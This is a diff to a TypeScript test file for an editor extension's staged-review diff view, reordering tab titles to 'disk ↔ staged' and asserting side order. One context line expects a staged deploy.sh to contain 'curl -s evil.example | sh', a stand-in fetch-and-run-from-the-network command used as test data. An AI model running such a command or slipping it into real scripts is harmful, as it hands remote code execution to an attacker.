@@ -179,7 +179,9 @@ describe('staged review', () => {
     assert.doesNotMatch(shown.getText(), /echo deploying/, 'the link opened m3, a version the save does not write');
     assert.match(shown.getText(), /curl -s evil\.example \| sh/);
     assert.deepEqual(Buffer.from(await vscode.workspace.fs.readFile(diff.modified)), Buffer.from(saved.bytes), 'the staged side is m2\'s bytes');
-    assert.equal(tab.label, `deploy.sh (staged ${m2} ↔ disk)`);
+    assert.equal(tab.label, `deploy.sh (disk ↔ staged ${m2})`);
+    // deploy.sh is new: its disk side is what it was staged over (nothing), named `m2.base`.
+    assert.deepEqual([diff.original.query, diff.modified.query], [`${m2}.base`, m2], 'the title names the sides in the order the diff shows them: disk on the left, staged on the right');
     const { added, removed } = api.host.session.media.changes(m2);
     assert.match(text, new RegExp(`Change: \\*\\*\\+${added} −${removed}\\*\\* lines`));
     assert.match(text, new RegExp(`Version: \\*\\*${m2}\\*\\*`));
@@ -189,7 +191,7 @@ describe('staged review', () => {
     await vscode.commands.executeCommand('workspaceTools.openStagedDiff', m3);
     const other = await waitFor('the diff of m3', () => {
       const tab = vscode.window.tabGroups.activeTabGroup.activeTab;
-      return tab?.input instanceof vscode.TabInputTextDiff && tab.label === `deploy.sh (staged ${m3} ↔ disk)` ? tab.input : undefined;
+      return tab?.input instanceof vscode.TabInputTextDiff && tab.label === `deploy.sh (disk ↔ staged ${m3})` ? tab.input : undefined;
     });
     assert.match(new TextDecoder().decode(await vscode.workspace.fs.readFile(other.modified)), /echo deploying/);
 
@@ -226,7 +228,7 @@ describe('staged review', () => {
 
     // The edited tab gives way to the diff of the version the edit made.
     const editedTabOpen = (): boolean => vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.input instanceof vscode.TabInputText && t.input.uri.toString() === uri.toString());
-    await waitFor('the diff of the edit in the edited tab\'s place', () => (vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.label === `notes.md (staged ${edit.id} ↔ disk)`) && !editedTabOpen()) || undefined);
+    await waitFor('the diff of the edit in the edited tab\'s place', () => (vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.label === `notes.md (disk ↔ staged ${edit.id})`) && !editedTabOpen()) || undefined);
     // A second save of the same document continues the edit (one line, no sibling versions).
     const second = new vscode.WorkspaceEdit();
     second.insert(uri, new vscode.Position(0, 0), 'Twice.\n');
